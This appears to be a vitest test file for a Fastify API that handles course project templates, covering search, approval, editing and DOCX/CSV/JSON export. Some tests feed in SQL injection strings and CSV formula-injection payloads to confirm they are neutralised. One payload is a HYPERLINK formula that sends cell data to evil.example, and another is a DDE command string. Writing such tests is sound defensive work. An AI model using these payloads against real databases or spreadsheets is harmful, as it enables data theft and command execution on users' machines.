import { parse } from "csv-parse/sync";
import type { InjectOptions } from "fastify";
import mammoth from "mammoth";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Template } from "#shared/schemas/templates.ts";
import { createTemplateViaApi, signedInFaculty } from "../../test/factories.ts";
import { createTestApp, type TestApp } from "../../test/test-app.ts";
import { CSV_COLUMNS, CSV_LIST_SEPARATOR } from "./templates.export.ts";

let t: TestApp;
let admin: Awaited<ReturnType<typeof signedInFaculty>>;
let alice: Awaited<ReturnType<typeof signedInFaculty>>;
let bob: Awaited<ReturnType<typeof signedInFaculty>>;
let blockchain: Template;
let ledger: Template;
let dataScience: Template;
let chemistry: Template;

beforeAll(async () => {
  t = await createTestApp();
  admin = await signedInFaculty(t.app, t.database.db, { role: "admin" });
  alice = await signedInFaculty(t.app, t.database.db);
  bob = await signedInFaculty(t.app, t.database.db);
  // created by an admin: approved at once
  blockchain = await createTemplateViaApi(t.app, admin.headers, {
    name: "Blockchain Applications",
    discipline: "blockchain",
    category: "development",
    difficultyLevel: "advanced",
    estimatedDuration: "8-12 weeks",
    isFeatured: true,
    description: "Students build a decentralised application after mastering hashing and consensus.",
  });
  ledger = await createTemplateViaApi(t.app, admin.headers, {
    name: "Ledger Audit Studio",
    discipline: "fintech",
    category: "analysis",
    difficultyLevel: "beginner",
    description: "An audit of a small ledger; a closing look at how blockchain changes audit trails.",
    template: {
      phases: [
        "Pivot: double-entry bookkeeping",
        "Launch: reconcile a cooperative's accounts with Merkle proofs",
      ],
      deliverables: ["Audit memo"],
      tools: ["Spreadsheet"],
    },
  });
  dataScience = await createTemplateViaApi(t.app, admin.headers, {
    name: "Data Science Project",
    discipline: "data-science",
    category: "analysis",
    difficultyLevel: "intermediate",
    estimatedDuration: "6-10 weeks",
    description:
      "Students frame a question, clean open data and communicate a model's limits to a real audience.",
  });
  chemistry = await createTemplateViaApi(t.app, admin.headers, {
    name: "Titration Lab Redesign",
    discipline: "chemistry",
    category: "laboratory",
    difficultyLevel: "beginner",
    description:
      "Students redesign a titration protocol to cut reagent waste — Pötzsch's green-chemistry rubric.",
  });
});
afterAll(() => t?.close());

const inject = (options: InjectOptions) => t.app.inject(options);
const search = (headers: Record<string, string>, query = "") =>
  inject({ method: "GET", url: `/api/templates/search${query}`, headers });
const names = (templates: Template[]) => templates.map((template) => template.name);

describe("search", () => {
  it("ranks name matches above description and phase matches", async () => {
    const reply = await search(alice.headers, "?q=blockchain");
    expect(reply.statusCode).toBe(200);
    const found = names(reply.json());
    expect(found[0]).toBe("Blockchain Applications");
    expect(found).toContain("Ledger Audit Studio"); // only its description mentions blockchain
    expect(found).not.toContain("Data Science Project");
  });

  it("finds text that is only in a phase, with stemming", async () => {
    const reply = await search(alice.headers, "?q=reconciling%20cooperatives");
    expect(names(reply.json())).toEqual(["Ledger Audit Studio"]);
  });

  it("tolerates a typo in a name", async () => {
    expect(names((await search(alice.headers, "?q=Blokchain")).json())[0]).toBe("Blockchain Applications");
    expect(names((await search(alice.headers, "?q=Titraton")).json())).toContain("Titration Lab Redesign");
  });

  it("filters by discipline, category and difficulty on the server", async () => {
    expect(names((await search(alice.headers, "?discipline=chemistry")).json())).toEqual([
      "Titration Lab Redesign",
    ]);
    expect(names((await search(alice.headers, "?category=analysis")).json()).sort()).toEqual([
      "Data Science Project",
      "Ledger Audit Studio",
    ]);
    expect(names((await search(alice.headers, "?category=analysis&difficulty=beginner")).json())).toEqual([
      "Ledger Audit Studio",
    ]);
    expect((await search(alice.headers, "?discipline=all")).json()).toHaveLength(4);
  });

  it("lists featured templates and says how many matched", async () => {
    const featured = await search(alice.headers, "?featuredOnly=true");
    expect(names(featured.json())).toEqual(["Blockchain Applications"]);
    const limited = await search(alice.headers, "?limit=2");
    expect(limited.json()).toHaveLength(2);
    expect(limited.headers["x-total-count"]).toBe("4");
  });

  it("treats quotes, % and _ and SQL fragments as plain text", async () => {
    for (const q of ["%", "_", "' OR '1'='1", "'; DROP TABLE template; --", '"unterminated', "a & b | !c"]) {
      const reply = await search(alice.headers, `?q=${encodeURIComponent(q)}`);
      expect(reply.statusCode, q).toBe(200);
      expect(reply.json().length, q).toBeLessThan(4);
    }
    expect((await search(alice.headers)).json()).toHaveLength(4);
  });

  it("refuses a search text over 200 characters and unknown filters with 400", async () => {
    const long = await search(alice.headers, `?q=${"a".repeat(201)}`);
    expect(long.statusCode).toBe(400);
    expect(long.json().message).toBe("Search text must be at most 200 characters");
    expect((await search(alice.headers, "?category=cooking")).statusCode).toBe(400);
    expect((await search(alice.headers, "?limit=0")).statusCode).toBe(400);
  });
});

describe("visibility and approval", () => {
  it("shows a pending template only to its author and admins, until approved", async () => {
    const pending = await createTemplateViaApi(t.app, alice.headers, { name: "Oral History Podcast" });
    expect(pending.status).toBe("pending");
    expect(pending.authorId).toBe(alice.faculty.id);
    expect(names((await search(alice.headers, "?q=podcast")).json())).toEqual(["Oral History Podcast"]);
    expect((await search(bob.headers, "?q=podcast")).json()).toEqual([]);
    expect(
      (await inject({ method: "GET", url: `/api/templates/${pending.id}`, headers: bob.headers })).statusCode,
    ).toBe(404);
    expect(names((await search(admin.headers, "?status=pending")).json())).toContain("Oral History Podcast");
    expect((await search(alice.headers, "?status=pending")).statusCode).toBe(403);

    const forbidden = await inject({
      method: "POST",
      url: `/api/templates/${pending.id}/approve`,
      headers: alice.headers,
    });
    expect(forbidden.statusCode).toBe(403);
    const approved = await inject({
      method: "POST",
      url: `/api/templates/${pending.id}/approve`,
      headers: admin.headers,
    });
    expect(approved.json().status).toBe("approved");
    expect(names((await search(bob.headers, "?q=podcast")).json())).toEqual(["Oral History Podcast"]);
    expect((await search(admin.headers, "?status=pending")).json().map((x: Template) => x.id)).not.toContain(
      pending.id,
    );
  });

  it("shows the author a rejection and its reason, and hides the template from others", async () => {
    const pending = await createTemplateViaApi(t.app, alice.headers, { name: "Museum Label Rewrite" });
    const rejected = await inject({
      method: "POST",
      url: `/api/templates/${pending.id}/reject`,
      headers: admin.headers,
      payload: { reason: "Please add assessment criteria." },
    });
    expect(rejected.json()).toMatchObject({
      status: "rejected",
      rejectionReason: "Please add assessment criteria.",
    });
    const own = await inject({ method: "GET", url: `/api/templates/${pending.id}`, headers: alice.headers });
    expect(own.json()).toMatchObject({
      status: "rejected",
      rejectionReason: "Please add assessment criteria.",
    });
    expect((await search(bob.headers, "?q=museum")).json()).toEqual([]);
    // a reason is optional; the spec's client posts with no body
    const other = await createTemplateViaApi(t.app, alice.headers);
    const noReason = await inject({
      method: "POST",
      url: `/api/templates/${other.id}/reject`,
      headers: admin.headers,
    });
    expect(noReason.json()).toMatchObject({ status: "rejected", rejectionReason: null });
    const again = await inject({
      method: "POST",
      url: `/api/templates/${other.id}/reject`,
      headers: admin.headers,
    });
    expect(again.statusCode).toBe(409);
  });
});

describe("custom templates", () => {
  it("lets the author edit and delete while pending, and nobody else but admins", async () => {
    const own = await createTemplateViaApi(t.app, alice.headers);
    const edited = await inject({
      method: "PUT",
      url: `/api/templates/${own.id}`,
      headers: alice.headers,
      payload: { name: "Edited Field Study" },
    });
    expect(edited.statusCode).toBe(200);
    expect(edited.json()).toMatchObject({
      name: "Edited Field Study",
      status: "pending",
      description: own.description,
    });
    expect(names((await search(alice.headers, "?q=edited")).json())).toContain("Edited Field Study");

    const byBob = await inject({
      method: "PUT",
      url: `/api/templates/${own.id}`,
      headers: bob.headers,
      payload: { name: "Hijacked" },
    });
    expect(byBob.statusCode).toBe(404);
    const featureSelf = await inject({
      method: "PUT",
      url: `/api/templates/${own.id}`,
      headers: alice.headers,
      payload: { isFeatured: true },
    });
    expect(featureSelf.statusCode).toBe(403);

    await inject({ method: "POST", url: `/api/templates/${own.id}/approve`, headers: admin.headers });
    const afterApproval = await inject({
      method: "PUT",
      url: `/api/templates/${own.id}`,
      headers: alice.headers,
      payload: { name: "Too late" },
    });
    expect(afterApproval.statusCode).toBe(403);
    const byAdmin = await inject({
      method: "PUT",
      url: `/api/templates/${own.id}`,
      headers: admin.headers,
      payload: { isFeatured: true },
    });
    expect(byAdmin.json().isFeatured).toBe(true);
    expect(
      (await inject({ method: "DELETE", url: `/api/templates/${own.id}`, headers: alice.headers }))
        .statusCode,
    ).toBe(403);

    const another = await createTemplateViaApi(t.app, alice.headers);
    expect(
      (await inject({ method: "DELETE", url: `/api/templates/${another.id}`, headers: bob.headers }))
        .statusCode,
    ).toBe(404);
    expect(
      (await inject({ method: "DELETE", url: `/api/templates/${another.id}`, headers: alice.headers }))
        .statusCode,
    ).toBe(204);
    expect(
      (await inject({ method: "GET", url: `/api/templates/${another.id}`, headers: alice.headers }))
        .statusCode,
    ).toBe(404);
  });

  it("answers bad bodies with a message", async () => {
    const post = (payload: InjectOptions["payload"]) =>
      inject({ method: "POST", url: "/api/templates", headers: alice.headers, payload });
    const short = await post({ name: "ab" });
    expect(short.statusCode).toBe(400);
    const noPhases = await post({
      name: "No phases",
      description: "A description long enough.",
      discipline: "history",
      category: "research",
      difficultyLevel: "beginner",
      estimatedDuration: "4 weeks",
      template: { phases: [], deliverables: [], tools: [] },
    });
    expect(noPhases.json().message).toBe("Add at least one project phase");
    const badCategory = await post({ name: "Bad", category: "cooking" });
    expect(badCategory.statusCode).toBe(400);
    const notJson = await inject({
      method: "POST",
      url: "/api/templates",
      headers: { ...alice.headers, "content-type": "application/json" },
      payload: "[1,",
    });
    expect(notJson.statusCode).toBe(400);
    const ownerField = await post({ name: "Owner", status: "approved", authorId: 1 });
    expect(ownerField.statusCode).toBe(400);
  });
});

describe("using a template", () => {
  it("records template_used and answers the wizard address", async () => {
    const reply = await inject({
      method: "POST",
      url: `/api/templates/${blockchain.id}/use`,
      headers: bob.headers,
    });
    expect(reply.json()).toEqual({
      redirectTo: `/methodology-wizard?mode=create-project&templateId=${blockchain.id}`,
    });
    const events = await inject({
      method: "GET",
      url: `/api/analytics/faculty/${bob.faculty.id}?eventType=template_used`,
      headers: bob.headers,
    });
    expect(events.json()[0].eventData).toEqual({
      templateId: blockchain.id,
      templateName: "Blockchain Applications",
    });
  });

  it("refuses a pending template, even its author's", async () => {
    const pending = await createTemplateViaApi(t.app, alice.headers);
    const reply = await inject({
      method: "POST",
      url: `/api/templates/${pending.id}/use`,
      headers: alice.headers,
    });
    expect(reply.statusCode).toBe(409);
    expect(reply.json().message).toBe("Only approved templates can be used to create a project.");
  });
});

describe("export", () => {
  const exportAs = (format: string, templateIds: unknown, headers = alice.headers) =>
    inject({ method: "POST", url: "/api/templates/export", headers, payload: { templateIds, format } });

  it("exports DOCX with a title page and every template's name and phases", async () => {
    const reply = await exportAs("docx", [blockchain.id, ledger.id]);
    expect(reply.statusCode).toBe(200);
    expect(reply.headers["content-disposition"]).toContain(
      'filename="PBL-Templates-Professional-Guide.docx"',
    );
    expect(reply.headers["content-type"]).toContain("wordprocessingml");
    const { value: text } = await mammoth.extractRawText({ buffer: reply.rawPayload });
    expect(text).toContain("Pivot-and-Launch Project Templates");
    for (const template of [blockchain, ledger]) {
      expect(text).toContain(template.name);
      for (const phase of template.template.phases) expect(text).toContain(phase);
      for (const deliverable of template.template.deliverables) expect(text).toContain(deliverable);
    }
    expect(text).not.toContain("Data Science Project");
  });

  it("exports CSV per RFC 4180, UTF-8 with a BOM, one row per template", async () => {
    const reply = await exportAs("csv", [chemistry.id, ledger.id, dataScience.id]);
    expect(reply.headers["content-disposition"]).toContain('filename="PBL-Templates-Data.csv"');
    const bytes = reply.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString("utf8");
    expect(text).toContain("\r\n");
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(3);
    expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS]);
    const chemistryRow = rows.find((row) => row.name === "Titration Lab Redesign");
    expect(chemistryRow?.description).toContain("Pötzsch's"); // accents and quotes survive
    expect(chemistryRow?.phases).toBe(chemistry.template.phases.join(CSV_LIST_SEPARATOR));
    expect(chemistryRow?.workload).toBe("~36 hours total");
  });

  it("neutralises cells that a spreadsheet would run as formulas, for the admin and the author", async () => {
    const mallory = await signedInFaculty(t.app, t.database.db, { name: "=1+1" });
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"Open")';
    const description = "+cmd|' /C calc'!A0 opens a calculator";
    const pending = await createTemplateViaApi(t.app, mallory.headers, {
      name,
      description,
      template: {
        phases: ["@SUM(1+1)", "Launch: field work"],
        deliverables: ["-2+3"],
        tools: ["R"],
      },
    });
    for (const who of [admin, mallory]) {
      const reply = await exportAs("csv", [pending.id], who.headers);
      expect(reply.statusCode).toBe(200);
      const [row] = parse(reply.rawPayload.toString("utf8"), { bom: true, columns: true }) as Record<
        string,
        string
      >[];
      expect(row?.name).toBe(`'${name}`);
      expect(row?.description).toBe(`'${description}`);
      expect(row?.phases).toBe(`'@SUM(1+1)${CSV_LIST_SEPARATOR}Launch: field work`);
      expect(row?.deliverables).toBe("'-2+3");
      expect(row?.author).toBe("'=1+1");
    }
  });

  it("exports the complete records as JSON", async () => {
    const reply = await exportAs("json", [dataScience.id, blockchain.id, blockchain.id]);
    expect(reply.headers["content-disposition"]).toContain('filename="PBL-Templates-Complete-Data.json"');
    const records = reply.json() as Template[];
    expect(records.map((record) => record.id).sort()).toEqual([blockchain.id, dataScience.id].sort());
    expect(records.find((record) => record.id === blockchain.id)).toEqual(
      expect.objectContaining({
        template: blockchain.template,
        learningOutcomes: blockchain.learningOutcomes,
      }),
    );
  });

  it("answers bad exports with 4xx messages", async () => {
    const none = await exportAs("docx", []);
    expect(none.statusCode).toBe(400);
    expect(none.json().message).toBe("No templates selected");
    const missing = await inject({
      method: "POST",
      url: "/api/templates/export",
      headers: alice.headers,
      payload: { format: "csv" },
    });
    expect(missing.json().message).toBe("No templates selected");
    expect((await exportAs("pdf", [blockchain.id])).json().message).toBe("Format must be docx, csv or json");
    expect((await exportAs("csv", [999_999])).statusCode).toBe(404);
    const foreignPending = await createTemplateViaApi(t.app, alice.headers);
    const byBob = await exportAs("json", [blockchain.id, foreignPending.id], bob.headers);
    expect(byBob.statusCode).toBe(404);
    expect(byBob.json().message).toBe("Some selected templates were not found.");
    expect((await exportAs("csv", ["1; drop"])).statusCode).toBe(400);
  });
});
